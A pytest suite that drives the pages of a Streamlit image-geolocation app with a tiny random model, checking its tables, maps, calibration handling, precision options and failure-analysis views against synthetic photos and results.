"""Every page of the Streamlit app, run headless with AppTest and a tiny random model (no weights, no network)."""

from __future__ import annotations

import contextlib
import dataclasses
import io
import os
import re
import sys
import threading
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import torch
from PIL import Image

from geocore.geo.distance import haversine_km
from geocore.models import registry
from geocore.models.registry import WeightsInfo, create_model, register_model, unregister_model

st_testing = pytest.importorskip("streamlit.testing.v1")
AppTest = st_testing.AppTest

REPO = Path(__file__).resolve().parents[1]
APP = REPO / "app"
PAGES = {
    "home": APP / "Home.py",
    "locate": APP / "pages" / "1_Locate.py",
    "text": APP / "pages" / "2_Text_query.py",
    "failures": APP / "pages" / "3_Failures.py",
    "embeddings": APP / "pages" / "4_Location_embeddings.py",
    "explain": APP / "pages" / "5_Explain.py",
}
TEST_MODEL = "app-test-tiny"
CITIES = torch.tensor([[48.8566, 2.3522], [40.7128, -74.006], [35.6762, 139.6503],
                       [-33.8688, 151.2093], [30.0444, 31.2357], [-22.9068, -43.1729]])
CITY_NAMES = {"Paris", "New York City", "Tokyo", "Sydney", "Cairo", "Rio de Janeiro"}
DOWNLOAD = "geocore weights download clip-vit-l-14"
TIMEOUT = 120

from ui import deck, maps  # noqa: E402
from ui.models import RANDOM_LABEL  # noqa: E402
from geocore.data.text import WORD_JOINER  # noqa: E402
from ui.page import RESPONSIBLE_USE, md_text  # noqa: E402
from ui.search_regions import NOT_CALIBRATED, REGION_CLASS, REGION_STYLES, km2  # noqa: E402


@pytest.fixture(scope="module", autouse=True)
def tiny_model():
    """A registered random model (geoclip-tiny over 6 cities): fast, labelled random."""

    @register_model(TEST_MODEL, description="geoclip-tiny over 6 cities (tests)", random_ok=True)
    def _build(pretrained=None, **kwargs):
        model = create_model("geoclip-tiny")
        model.set_gallery(CITIES)
        return model

    yield TEST_MODEL
    unregister_model(TEST_MODEL)


@pytest.fixture(autouse=True)
def _env(monkeypatch):
    """Preselect the test model and make GeoCLIP's backbone weights absent, whatever this machine holds."""
    monkeypatch.setenv("GEOCORE_APP_TEST_MODEL", TEST_MODEL)
    monkeypatch.setenv("GEOCORE_APP_OFFLINE", "1")
    for var in ("GEOCORE_DATA_DIRS", "GEOCORE_RESULTS_DIR", "GEOCORE_IMAGES_DIR"):  # no folders shared unless told
        monkeypatch.delenv(var, raising=False)
    entry = registry.model_entry("geoclip")
    missing = WeightsInfo(False, "CLIP ViT-L/14 backbone not found (test)", DOWNLOAD)
    monkeypatch.setitem(registry._REGISTRY, "geoclip", dataclasses.replace(entry, weights_info=lambda: missing))


def _jpeg(seed=0, gps=None, size=(96, 128)) -> bytes:
    arr = (np.random.default_rng(seed).random((*size, 3)) * 255).astype("uint8")
    buf = io.BytesIO()
    kwargs = {}
    if gps:
        exif = Image.Exif()
        lat, lon = gps
        exif[0x8825] = {1: "N" if lat >= 0 else "S", 2: (abs(lat), 0.0, 0.0),
                        3: "E" if lon >= 0 else "W", 4: (abs(lon), 0.0, 0.0)}
        kwargs["exif"] = exif
    Image.fromarray(arr).save(buf, format="JPEG", **kwargs)
    return buf.getvalue()


def _share(monkeypatch, folder: Path, results: Path | None = None) -> None:
    """Share `folder` (GEOCORE_DATA_DIRS) and open the Failures page on `results` (default: the folder)."""
    monkeypatch.setenv("GEOCORE_DATA_DIRS", str(folder))
    monkeypatch.setenv("GEOCORE_RESULTS_DIR", str(results or folder))


def _run(page: str, state: dict | None = None) -> AppTest:
    at = AppTest.from_file(str(PAGES[page]), default_timeout=TIMEOUT)
    for k, v in (state or {}).items():
        at.session_state[k] = v
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


_ESCAPED = re.compile(r"\\([!-/:-@\[-`{-~])")  # a backslash-escaped ASCII punctuation (geocore.data.text)


def _raw(elements) -> list[str]:
    """The elements' markdown as the page sent it."""
    return [str(e.value) for e in elements]


def _seen(markdown: str) -> str:
    """`markdown` with the escapes and word joiners names get (`ui.page.md_text`) taken off: as the reader sees it."""
    return _ESCAPED.sub(r"\1", markdown).replace(WORD_JOINER, "")


def _texts(elements) -> list[str]:
    """The elements' text as the reader sees the names in it (`_seen`)."""
    return [_seen(t) for t in _raw(elements)]


def _captions(at: AppTest) -> list[str]:
    """The captions of the page's images, as the reader sees them (escapes taken off)."""
    return [_seen(img.caption) for el in at.get("image") for img in el.proto.imgs]


def _numbers(text: str) -> list[float]:
    return [float(x.replace(",", "")) for x in re.findall(r"\d[\d,]*(?:\.\d+)?", text)]


def _line_with(at: AppTest, word: str) -> str:
    """The one markdown line of the page that mentions `word`."""
    lines = [t for t in _texts(at.markdown) if word in t]
    assert len(lines) == 1, (word, lines)
    return lines[0]


def _topk(at: AppTest) -> list[pd.DataFrame]:
    """The top-k tables of a Locate page (static `st.table`s: no data-grid script to load before the map)."""
    return [t.value for t in at.table if "rank" in t.value.columns]


def test_home_lists_weights_and_responsible_use():
    at = _run("home")
    table = at.dataframe[0].value
    row = table.set_index("model").loc["geoclip"]
    assert row["weights"] == "missing" and row["how to get the weights"] == DOWNLOAD
    assert table.set_index("model").loc["geoclip-tiny", "weights"] == "random (demo only)"
    assert RESPONSIBLE_USE in _texts(at.markdown)
    assert any(DOWNLOAD in t for t in _texts(at.info))


def test_locate_good_photo_renders_and_bad_uploads_get_messages():
    good = _jpeg(1, gps=(48.8566, 2.3522))
    at = _run("locate", {"_test_uploads": [("good.jpg", good), ("empty.jpg", b""),
                                           ("notes.jpg", b"this is not an image")]})
    # one notice with the command that gets the weights
    assert sum(DOWNLOAD in t for t in _texts(at.info)) == 1
    # the random-backbone label on the result
    assert any(RANDOM_LABEL in t for t in _texts(at.warning))
    # the bad files each get their message, the good one its top-k table
    errors = _texts(at.error)
    assert any("empty.jpg" in e and "empty" in e for e in errors)
    assert any("notes.jpg" in e and "not an image" in e for e in errors)
    table = _topk(at)[0]
    assert list(table.columns[:4]) == ["rank", "place", "country", "probability"]
    assert list(table["rank"]) == [1, 2, 3, 4, 5]
    assert {p.split(",")[0] for p in table["place"]} <= CITY_NAMES
    assert table["probability"].is_monotonic_decreasing
    # EXIF truth and its error in km (a success inside the 90 % region, a warning outside it)
    top = table.iloc[0]
    km = float(haversine_km(np.array([48.8566, 2.3522]), np.array([top["lat"], top["lon"]])))
    exif = " ".join(t for t in _texts(at.success) + _texts(at.warning) if "EXIF" in t)
    assert "48.8566" in exif and "2.3522" in exif and f"{km:,.1f} km" in exif
    assert _numbers(_line_with(at, "located")) == [1, 2]  # located, could not be read


def _encode(img: Image.Image, fmt: str, **kw) -> bytes:
    buf = io.BytesIO()
    img.save(buf, format=fmt, **kw)
    return buf.getvalue()


def test_locate_awkward_uploads_render_and_huge_one_is_refused():
    cmyk = _encode(Image.new("CMYK", (80, 60), (0, 128, 255, 0)), "JPEG")
    deep = _encode(Image.fromarray((np.arange(80 * 60, dtype=np.uint16).reshape(60, 80) * 13)), "PNG")
    frames = [Image.new("RGB", (40, 30), c) for c in ("red", "blue")]
    anim = _encode(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)
    huge = _encode(Image.new("1", (10_000, 10_000)), "PNG")  # 100 Mpx declared: refused before decoding
    at = _run("locate", {"_test_uploads": [("cmyk.jpg", cmyk), ("deep.png", deep), ("anim.gif", anim),
                                           ("huge.png", huge)]})
    assert _numbers(_line_with(at, "located")) == [3, 1]
    assert len(_topk(at)) == 3  # a top-k table each
    assert any("huge.png" in e and "too large" in e for e in _texts(at.error))


def test_locate_region_filter_keeps_answers_inside_the_box():
    at = _run("locate", {"_test_uploads": [("a.jpg", _jpeg(2))]})
    at.radio(key="gallery_mode").set_value("Gallery inside a region").run()  # default box: Europe
    assert not at.exception
    table = _topk(at)[0]
    assert len(table) == 1 and table.iloc[0]["place"].startswith("Paris")  # the only city in the box
    assert any("search regions" in t for t in _texts(at.info))  # one point has no area: said, not a crash


def _tiny_cities():
    """The page's model, as the registry builds it (named TEST_MODEL)."""
    return create_model(TEST_MODEL)


def _expected(files, **kwargs):
    """What the library answers for these photos with the page's model at the page's default precision ("auto")
    (the page must show the same)."""
    from geocore.locate import locate

    kwargs.setdefault("precision", "auto")
    return locate(_tiny_cities(), files, top_k=5, full=True, regions=(0.5, 0.9), **kwargs)


def _region_table(at: AppTest) -> pd.DataFrame:
    return next(t.value for t in at.table if "area (km²)" in t.value.columns)


def _srcdoc(at: AppTest) -> str:
    return at.get("iframe")[0].proto.srcdoc


def test_locate_shows_search_regions_with_area_and_calibration_status():
    files = [("paris.jpg", _jpeg(1, gps=(48.8566, 2.3522)))]
    at = _run("locate", {"_test_uploads": files})
    (res,) = _expected(files)
    table = _region_table(at)
    assert len(table) == 2 and [_numbers(r)[0] for r in table["region"]] == [50, 90]
    assert "on the map" in table["region"].iloc[1]  # 90 % drawn by default
    assert list(table["area (km²)"]) == [km2(r.area_km2) for r in res.regions]  # with thousands separators
    assert all("," in a for a in table["area (km²)"] if float(a.replace(",", "")) >= 1000)
    assert list(table["separate areas"]) == [r.n_areas for r in res.regions]
    for shown, reg in zip(table["countries"], res.regions):  # names, most covered first; 8 at most, then "…"
        assert reg.country_names and shown.startswith(", ".join(reg.country_names[:8]))
        assert ("…" in shown) == (len(reg.country_names) > 8)
    assert list(table["calibration"]) == [NOT_CALIBRATED] * 2  # always says which
    assert list(table["EXIF GPS inside"]) == ["yes" if res.exif_in_region(r.level) else "no" for r in res.regions]
    exif = " ".join(t for t in _texts(at.success) + _texts(at.warning) if "EXIF" in t)
    assert ("inside" if res.exif_in_region(0.9) else "outside") in exif and "90" in exif
    if maps.leaflet_assets() is not None:  # the 90 % region drawn on the map, in its colour, over the heatmap
        html = _srcdoc(at)
        assert REGION_CLASS in html and REGION_STYLES[0.9]["color"] in html
        assert '"level": 0.9' in html and '"level": 0.5' not in html
        assert "L.geoJson(" in html and "data:image/png;base64," in html

    cache = at.session_state["_locate_cache"]
    at.radio(key="region_level").set_value("50 %").run()  # the toggle switches the drawn level, no re-run
    assert not at.exception, [e.value for e in at.exception]
    assert at.session_state["_locate_cache"][0] == cache[0]
    assert "on the map" in _region_table(at)["region"].iloc[0]
    if maps.leaflet_assets() is not None:
        html = _srcdoc(at)
        assert '"level": 0.5' in html and '"level": 0.9' not in html and REGION_CLASS in html


def test_locate_hint_changes_the_probabilities_and_is_reported():
    files = [("a.jpg", _jpeg(2))]
    at = _run("locate", {"_test_uploads": files})
    plain = _topk(at)[0]
    assert not any("desert" in t for t in _texts(at.info))
    at.text_input(key="hint").set_value("desert in Egypt")
    at.slider(key="hint_weight").set_value(2.0).run()
    assert not at.exception, [e.value for e in at.exception]
    hinted = _topk(at)[0]
    (res,) = _expected(files, hint="desert in Egypt", hint_weight=2.0)
    assert list(hinted["probability"]) == list(res.table["prob"].round(4))  # the library's answer with the hint
    assert list(hinted["probability"]) != list(plain["probability"])
    notice = next(t for t in _texts(at.info) if "desert in Egypt" in t)  # reported on the result: text and weight
    assert 2.0 in _numbers(notice)
    at.text_input(key="hint").set_value("   ").run()  # blank: no hint
    assert list(_topk(at)[0]["probability"]) == list(plain["probability"])
    assert not any("desert" in t for t in _texts(at.info))


def _calibration_json(model: str, fingerprint: str, n: int = 40) -> bytes:
    import json

    from geocore.uncertainty.calibration import fit_calibration

    cal = fit_calibration(np.linspace(0.05, 0.99, n), levels=(0.5, 0.8, 0.9), model=model, fingerprint=fingerprint)
    return json.dumps(cal.to_dict()).encode()


def test_locate_calibration_upload_calibrates_or_gives_a_notice():
    from geocore.uncertainty.calibration import Calibration

    files = [("a.jpg", _jpeg(3))]
    fingerprint = _tiny_cities().candidate_cells().fingerprint
    bad_files = {"bad.json": b"{not json", "other.json": _calibration_json("geoclip", fingerprint),
                 "fields.json": b'{"model": "geoclip-tiny"}'}
    for name, data in bad_files.items():
        at = _run("locate", {"_test_uploads": files, "_test_calibration": (name, data)})
        errors = _texts(at.error)  # a file it cannot read: in the sidebar; one that does not fit: above the answers
        assert len(errors) == 1 and "\n" not in errors[0], errors  # one line, no traceback
        assert name in errors[0] or "'geoclip'" in errors[0]
        assert list(_region_table(at)["calibration"]) == [NOT_CALIBRATED] * 2  # still located, uncalibrated

    good = _calibration_json(TEST_MODEL, fingerprint)
    at = _run("locate", {"_test_uploads": files, "_test_calibration": ("cal.json", good)})
    assert not _texts(at.error)
    status = next(t for t in _texts(at.sidebar.success) if TEST_MODEL in t)
    assert 40 in _numbers(status)  # calibrated on 40 photos of the model
    cal = Calibration.from_bytes(good, "cal.json")
    (res,) = _expected(files, calibration=cal)
    table = _region_table(at)
    assert all(c.startswith("calibrated") for c in table["calibration"])
    assert list(table["area (km²)"]) == [km2(r.area_km2) for r in res.regions]


def test_locate_uses_a_nested_mondrian_calibration_per_photo():
    """A calibration binned on entropy › raw area (the default `geocore calibrate` writes): each photo's regions take
    the masses of its own bin, as the library computes them."""
    import json

    from geocore.uncertainty.calibration import Calibration, fit_calibration

    files = [("a.jpg", _jpeg(3)), ("b.jpg", _jpeg(5))]
    fingerprint = _tiny_cities().candidate_cells().fingerprint
    rng = np.random.default_rng(0)
    scores = np.stack([rng.uniform(0, 3, 400), rng.uniform(3, 8, 400)], axis=1)  # entropy, log10 km² of the 90 %
    cal = fit_calibration(rng.random(400) * (0.3 + 0.2 * scores[:, 0]), levels=(0.5, 0.8, 0.9), model=TEST_MODEL,
                          fingerprint=fingerprint, bin_score=scores, n_bins=2, n_inner=2)
    assert cal.bins.inner_score == "log_area90" and len(cal.bins.counts) == 4
    data = json.dumps(cal.to_dict()).encode()
    at = _run("locate", {"_test_uploads": files, "_test_calibration": ("nested.json", data)})
    assert not at.exception and not _texts(at.error), [e.value for e in at.exception]
    expected = _expected(files, calibration=Calibration.from_bytes(data, "nested.json"))
    tables = [t.value for t in at.table if "area (km²)" in t.value.columns]  # one per photo
    assert len(tables) == 2 and all(c.startswith("calibrated") for t in tables for c in t["calibration"])
    assert [list(t["area (km²)"]) for t in tables] == [[km2(r.area_km2) for r in res.regions] for res in expected]


def test_locate_case_report_holds_the_photos_sha256(one_thread):
    import hashlib

    photo = _jpeg(4, gps=(35.6762, 139.6503))
    at = _run("locate", {"_test_uploads": [("tokyo.jpg", photo)]})
    assert not at.get("download_button")  # prepared on demand only (it runs Grad-CAM)
    at.button(key="report_prepare").click().run()
    assert not at.exception, [e.value for e in at.exception]
    html = at.session_state["_case_report"][1]
    assert html.startswith("<!DOCTYPE html>") and hashlib.sha256(photo).hexdigest() in html
    assert "tokyo.jpg" in html
    assert [b.proto.label for b in at.get("download_button")] == ["Download case report (HTML)"]


def test_text_query_two_queries_side_by_side():
    at = _run("text")
    assert sum(DOWNLOAD in t for t in _texts(at.info)) == 1
    assert len(at.dataframe) == 2  # query A and query B
    for df in at.dataframe:
        assert len(df.value) == 5 and {p.split(",")[0] for p in df.value["place"]} <= CITY_NAMES
    assert sum(RANDOM_LABEL in t for t in _texts(at.warning)) == 2
    at.button(key="ex_2").click().run()  # "Great Wall of China" → query B (A is already set)
    assert at.text_input(key="query_b").value == "Great Wall of China"
    assert any("Great Wall of China" in t for t in _texts(at.markdown))


def _precision_caption(at: AppTest) -> list[str]:
    return [t for t in _texts(at.caption) if t.startswith("Precision: ")]


def test_locate_precision_choice_reaches_the_library_and_says_what_ran():
    """Precision auto / fp32 / bf16 beside the model (default auto): each gives the library's answer at that
    precision, and the page says which ran (auto: which one, and why)."""
    files = [("cairo.jpg", _jpeg(5, gps=(30.0444, 31.2357)))]
    at = _run("locate", {"_test_uploads": files})
    select = at.selectbox(key="precision")
    assert select.options == ["auto", "fp32", "bf16"] and select.value == "auto"
    # the test model is far below BF16_MIN_PARAMETERS: auto keeps fp32, and says why
    assert _precision_caption(at)[0].startswith("Precision: fp32 (auto: ")
    for choice in ("fp32", "bf16"):
        at.selectbox(key="precision").set_value(choice).run()
        assert not at.exception, [e.value for e in at.exception]
        (res,) = _expected(files, precision=choice)
        assert res.precision == choice
        assert list(_topk(at)[0]["probability"]) == list(res.table["prob"].round(4))
        assert _precision_caption(at)[0].startswith(f"Precision: {choice} (chosen")
    assert at.session_state["_locate_cache"][0][1] == "bf16"  # the precision is part of the results' key


def test_precision_text_names_the_reason(monkeypatch):
    from geocore.models import precision
    from ui.models import precision_text

    monkeypatch.setattr(precision, "cpu_bf16_flags", lambda: ("avx512_bf16",))
    assert precision_text("auto", "cpu") == "bf16 (auto: this CPU has avx512_bf16)"
    assert precision_text("fp32", "cpu") == "fp32 (chosen)"
    assert precision_text("bf16", "cpu") == "bf16 (chosen)"
    assert precision_text("auto", "cpu", torch.nn.Linear(10, 10)).startswith("fp32 (auto: a 0.0M-parameter model")
    monkeypatch.setattr(precision, "cpu_bf16_flags", lambda: ())
    assert precision_text("auto", "cpu") == "fp32 (auto: this CPU has no AMX or AVX512-BF16)"
    assert "may be slower than fp32" in precision_text("bf16", "cpu")


def test_text_query_and_explain_take_the_precision():
    from geocore.locate import prediction_table
    from geocore.models.precision import use_precision

    at = _run("text")
    assert at.selectbox(key="precision_text").value == "auto"
    at.selectbox(key="precision_text").set_value("fp32").run()
    assert not at.exception, [e.value for e in at.exception]
    assert _precision_caption(at) == ["Precision: fp32 (chosen)"] * 2  # one per query
    model = _tiny_cities()
    with use_precision("fp32"):
        expected = prediction_table(model.predict_text(["Pyramids of Giza"], 5, full=True))
    assert list(at.dataframe[0].value["probability"]) == list(expected["prob"].round(4))

    at = _run("explain", {"_test_uploads": [("a.jpg", _jpeg(3))]})
    assert at.selectbox(key="precision_explain").value == "auto"
    at.selectbox(key="precision_explain").set_value("bf16").run()
    assert not at.exception, [e.value for e in at.exception]
    assert _precision_caption(at) == ["Precision: bf16 (chosen)"] or "may be slower" in _precision_caption(at)[0]


def test_locate_rerun_keeps_the_same_map():
    """A rerun that changes nothing on the map (here: none at all) sends the same map page, so the browser keeps
    its frame instead of reloading it (folium names every element anew on each build)."""
    if maps.leaflet_assets() is None:
        pytest.skip("Leaflet is not installed in app/static/vendor (run `make setup`)")
    at = _run("locate", {"_test_uploads": [("paris.jpg", _jpeg(1, gps=(48.8566, 2.3522)))]})
    first = _srcdoc(at)
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    assert _srcdoc(at) == first
    at.radio(key="region_level").set_value("50 %").run()  # another map: built for it
    assert _srcdoc(at) != first and '"level": 0.5' in _srcdoc(at)
    at.radio(key="region_level").set_value("90 %").run()  # and back: the one remembered
    assert _srcdoc(at) == first


def test_heatmap_png_has_the_pixels_its_blur_needs():
    """The heatmap image: a palette PNG as wide as its blur needs (the 1,000 km grid far less than 720 px, a
    100K gallery the full 720), its peak where the probability is, transparent where there is none."""
    import base64

    from geocore.geo.gallery import grid_gallery

    grid = grid_gallery(1000.0).numpy().astype(np.float64)
    assert maps.heatmap_width(len(grid)) < 300 and maps.heatmap_width(100_000) == maps.HEATMAP_MAX_PX
    probs = np.zeros(len(grid))
    at = int(np.argmin(np.abs(grid[:, 0] - 45.0) + np.abs(grid[:, 1] - 20.0)))  # all mass on one point
    probs[at] = 1.0
    uri = maps.probability_png(grid, probs)
    img = Image.open(io.BytesIO(base64.b64decode(uri.split(",", 1)[1])))
    width = maps.heatmap_width(len(grid))
    assert img.format == "PNG" and img.mode == "P" and img.size == (width, width)
    value = np.asarray(img)  # palette index = probability scaled to 0..255
    row, col = np.unravel_index(np.argmax(value), value.shape)
    lat, lon = grid[at]
    y = np.log(np.tan(np.pi / 4 + np.deg2rad(lat) / 2))  # Web-Mercator rows, as Leaflet places the image
    ymax = np.log(np.tan(np.pi / 4 + np.deg2rad(maps.MERCATOR_MAX_LAT) / 2))
    assert value.max() == 255 and abs(col - (lon + 180) / 360 * width) <= 1
    assert abs(row - (ymax - y) / (2 * ymax) * width) <= 1
    rgba = np.asarray(img.convert("RGBA"))
    assert rgba[0, 0, 3] == 0 and rgba[row, col, 3] == round(0.85 * 255)  # no probability: fully transparent


def test_region_outline_is_simplified_but_keeps_small_parts():
    """The drawn region: each part simplified, and a part smaller than the tolerance (a small island of the
    region) drawn as it is instead of vanishing."""
    import shapely
    from shapely.geometry import MultiPolygon, box

    big = box(0, 0, 30, 20).segmentize(0.5)  # ~200 vertices along straight edges
    tiny = box(50, 50, 50.05, 50.05)
    out = maps._simplify_for_drawing(MultiPolygon([big, tiny]), 0.1)
    parts = shapely.get_parts(out)
    assert len(parts) == 2 and parts[1].equals(tiny)
    assert shapely.get_num_coordinates(parts[0]) == 5 and parts[0].equals(box(0, 0, 30, 20))


def test_regions_of_the_100k_gallery_draw():
    """The 50 % / 90 % regions over GeoCLIP's 100K-point gallery (thousands of Voronoi pieces, some of which
    simplifying makes self-crossing and GEOS splits) become one drawable (Multi)Polygon; this once raised a
    TypeError that broke the Locate page for the default gallery."""
    from geocore.locate import locate
    from geocore.models.registry import create_model

    res = locate(create_model("geoclip-tiny"), [("p.jpg", _jpeg(1, size=(480, 640)))], regions=(0.5, 0.9))[0]
    assert res.ok and len(res.regions) == 2
    for reg in res.regions:
        feature = maps.region_geojson(reg)
        assert feature["geometry"]["type"] in ("Polygon", "MultiPolygon") and feature["geometry"]["coordinates"]


def _results(path: Path, errors_km: list[float], model: str = "m") -> Path:
    """Hand-made results: truths at Paris, predictions due north at the given distances."""
    n = len(errors_km)
    lat, lon = np.full(n, 48.8566), np.full(n, 2.3522)
    pred_lat = lat + np.asarray(errors_km) / 111.195
    err = haversine_km(np.stack([lat, lon], 1), np.stack([pred_lat, lon], 1))
    pd.DataFrame({
        "IMG_ID": [f"img{i}.jpg" for i in range(n)], "LAT": lat, "LON": lon, "PRED_LAT": pred_lat, "PRED_LON": lon,
        "error_km": err, "topk_lat": [[v] for v in pred_lat], "topk_lon": [[v] for v in lon],
        "topk_prob": [[1.0]] * n, "model": model, "S3_Label": [i % 3 for i in range(n)], "status": "ok",
    }).to_parquet(path, index=False)
    return path


def test_failures_metrics_filters_and_comparison(tmp_path, monkeypatch):
    _results(tmp_path / "a.parquet", [0.5, 10.0, 100.0, 1000.0])  # acc@25 km = 50 %
    _results(tmp_path / "b.parquet", [50.0, 20.0, 5.0, 3000.0])  # right within 25 km: img1, img2
    _share(monkeypatch, tmp_path)
    at = _run("failures")
    metrics = at.dataframe[0].value.iloc[0]
    assert metrics["n"] == 4
    assert metrics["Street 1 km"] == "25.0" and metrics["City 25 km"] == "50.0"
    assert metrics["Region 200 km"] == "75.0" and metrics["Continent 2500 km"] == "100.0"
    assert metrics["Country acc"] == "75.0"  # up to 100 km north of Paris is still France; 1000 km is sea
    assert _numbers(_line_with(at, "filters")) == [4, 4]
    # no search-region columns: the "how sure" section says to re-run evaluate, no localizability filter
    assert any("evaluate" in t and "re-run" in t for t in _texts(at.caption))
    assert not any(s.key == "f_loc" for s in at.slider)
    worst = next(d.value for d in at.dataframe if "IMG_ID" in d.value.columns and "band" in d.value.columns)
    assert list(worst["IMG_ID"]) == ["img3.jpg", "img2.jpg", "img1.jpg", "img0.jpg"]  # worst first

    at.multiselect(key="f_band").set_value(["≤ 1 km", "1–25 km"]).run()
    assert not at.exception
    assert _numbers(_line_with(at, "filters")) == [2, 4]

    at.selectbox(key="b_file").set_value("b.parquet").run()
    assert not at.exception
    # within 25 km: a gets img0 and img1 right, b img1 and img2
    assert _numbers(_line_with(at, "both"))[-3:] == [1, 1, 1]  # only by a, only by b, by both
    only = [list(d.value["IMG_ID"]) for d in at.dataframe
            if {"error_km_a", "error_km_b"} <= set(d.value.columns)]
    assert only == [["img0.jpg"], ["img2.jpg"]]  # right only in a, right only in b


def _uncertain_results(path: Path, n: int = 24, seed: int = 0) -> pd.DataFrame:
    """Results with the search-region columns: each photo's probabilities over a 1500 km grid gallery, peaked
    near (not always at) the truth, some sharp and some spread out."""
    from geocore.eval.coverage import coverage_columns
    from geocore.geo.gallery import grid_gallery
    from geocore.geo.candidates import gallery_cells

    rng = np.random.default_rng(seed)
    gallery = grid_gallery(1500.0).numpy().astype(np.float64)
    truth = gallery[rng.choice(len(gallery), n, replace=False)] + rng.normal(0, 2.0, (n, 2))
    truth[:, 0] = truth[:, 0].clip(-80, 80)
    centre = truth + rng.normal(0, 1, (n, 2)) * rng.choice([1.0, 10.0, 30.0], (n, 1))
    centre[:, 0] = centre[:, 0].clip(-85, 85)
    dist = np.stack([haversine_km(c[None], gallery) for c in centre])
    logits = -dist / rng.choice([200.0, 800.0, 3000.0], n)[:, None]
    probs = np.exp(logits - logits.max(1, keepdims=True))
    probs /= probs.sum(1, keepdims=True)
    top = gallery[probs.argmax(1)]
    df = pd.DataFrame({
        "IMG_ID": [f"img{i}.jpg" for i in range(n)], "LAT": truth[:, 0], "LON": truth[:, 1],
        "PRED_LAT": top[:, 0], "PRED_LON": top[:, 1], "error_km": haversine_km(truth, top),
        "topk_lat": [[v] for v in top[:, 0]], "topk_lon": [[v] for v in top[:, 1]],
        "topk_prob": [[float(p)] for p in probs.max(1)], "model": "m", "status": "ok",
        **coverage_columns(probs, gallery_cells(gallery), truth),
    })
    df.to_parquet(path, index=False)
    return df


def _coverage_shown(at: AppTest) -> pd.DataFrame:
    return next(d.value for d in at.dataframe if "coverage (%)" in d.value.columns)


def test_failures_how_sure_coverage_abstention_and_localizability_filter(tmp_path, monkeypatch):
    import json

    from geocore.eval.analysis import most_localizable
    from geocore.eval.coverage import calibrate_results, coverage_tables

    df = _uncertain_results(tmp_path / "u.parquet")
    _share(monkeypatch, tmp_path)
    at = _run("failures")
    tables = coverage_tables(df)
    shown = _coverage_shown(at)
    assert [_numbers(r)[0] for r in shown["region"]] == [50, 80, 90, 95]
    assert list(shown["coverage (%)"]) == list((100 * tables["coverage"]["coverage"]).round(1))
    assert list(shown["median area (km²)"]) == [km2(a) for a in tables["coverage"]["median_area_km2"]]
    assert list(shown["mass used"]) == [0.5, 0.8, 0.9, 0.95]  # not calibrated: the levels themselves
    abst = next(d.value for d in at.dataframe if "fraction" in d.value.columns)
    pd.testing.assert_frame_equal(abst, tables["abstention"].round(3))
    assert len(at.get("image")) == 5  # error histogram, two choropleths, abstention, recall against area

    # the localizability filter: half the photos, the most localizable, in the worst-first table
    assert _numbers(_line_with(at, "filters")) == [24, 24]
    at.slider(key="f_loc").set_value(50).run()
    assert not at.exception, [e.value for e in at.exception]
    assert _numbers(_line_with(at, "filters")) == [12, 24]
    worst = next(d.value for d in at.dataframe if "localizability" in d.value.columns)
    kept = set(df.loc[most_localizable(df, 0.5), "IMG_ID"])
    assert len(worst) == 12 and set(worst["IMG_ID"]) == kept
    assert worst["localizability"].max() <= df.loc[~df["IMG_ID"].isin(kept), "localizability"].min() + 0.01

    # a calibration fitted on this run: masses and coverage as coverage_tables computes them with it
    cal = calibrate_results(df, levels=(0.5, 0.8, 0.9, 0.95))
    at.session_state["_test_calibration"] = ("cal.json", json.dumps(cal.to_dict()).encode())
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    calibrated = coverage_tables(df, cal)["coverage"]
    shown = _coverage_shown(at)
    assert list(shown["mass used"]) == list(calibrated["mass"].round(3))
    assert list(shown["coverage (%)"]) == list((100 * calibrated["coverage"]).round(1))
    assert all(c >= 100 * lv for c, lv in zip(shown["coverage (%)"], calibrated["nominal"]))  # conformal: ≥ level
    assert any("24" in t for t in _texts(at.success))  # calibrated on 24 photos
    # coverage per localizability tercile beside the overall figure, as the library computes it
    by_bin = next(d.value for d in at.dataframe if "photos" in d.value.columns)
    expected = coverage_tables(df, cal)["coverage_by_localizability"]
    assert list(by_bin["photos"]) == list(expected["photos"]) and list(by_bin["n"]) == [24, 8, 8, 8]
    assert list(by_bin["90 %"]) == list((100 * expected["90 %"]).round(1))
    assert not any("Coverage may not hold" in t for t in _texts(at.warning))  # the calibration's own photos
    shifted = dict(cal.to_dict(), localizability=[v - 10.0 for v in cal.localizability])
    at.session_state["_test_calibration"] = ("shifted.json", json.dumps(shifted).encode())
    at.run()
    assert not at.exception and any("Coverage may not hold here" in t for t in _texts(at.warning))
    # one of another model: a notice, the raw table
    at.session_state["_test_calibration"] = ("other.json", _calibration_json("geoclip", "gallery:1:none:x"))
    at.run()
    assert not at.exception and any("geoclip" in t for t in _texts(at.error))
    assert list(_coverage_shown(at)["mass used"]) == [0.5, 0.8, 0.9, 0.95]


def test_failures_drilldown_image_heatmap_gradcam_and_missing_image(tmp_path, monkeypatch, one_thread):
    _results(tmp_path / "a.parquet", [0.5, 10.0, 100.0, 1000.0])
    images = tmp_path / "images"
    images.mkdir()
    for img_id in ("img3.jpg", "img2.jpg"):  # img1.jpg and img0.jpg are not in the folder
        (images / img_id).write_bytes(_jpeg(int(img_id[3]), size=(40, 56)))
    _share(monkeypatch, tmp_path)
    at = _run("failures")
    assert not at.get("iframe")  # no drill-down until a folder is given
    at.text_input(key="f_img_dir").set_value(str(images)).run()
    assert not at.exception, [e.value for e in at.exception]
    rows = at.selectbox(key="f_row")
    assert [o.split()[0] for o in rows.options] == ["img3.jpg", "img2.jpg", "img1.jpg", "img0.jpg"]  # worst first
    assert _numbers(rows.options[0])[-1] == 1000 and _numbers(rows.options[1])[-1] == 100  # with its error (km)
    rows.set_value("img2.jpg").run()
    assert not at.exception, [e.value for e in at.exception]
    shown = len(at.get("image"))  # the charts of the other tabs, the photo and its Grad-CAM overlay
    assert "img2.jpg" in _captions(at)
    assert any(RANDOM_LABEL in t for t in _texts(at.warning))
    assert sum(DOWNLOAD in t for t in _texts(at.info)) == 1  # the one missing-weights notice, with the command
    srcdoc = at.get("iframe")[0].proto.srcdoc  # the heatmap map, Leaflet inlined
    if maps.leaflet_assets() is not None:
        assert "L.map(" in srcdoc and "data:image/png;base64," in srcdoc
        assert "img2.jpg" in srcdoc  # the truth's marker
        assert srcdoc.count("L.circleMarker(") == 5 + 2  # the top-5, the truth and the file's prediction
        assert "100.0 km" in srcdoc  # the error line: truth → the file's prediction
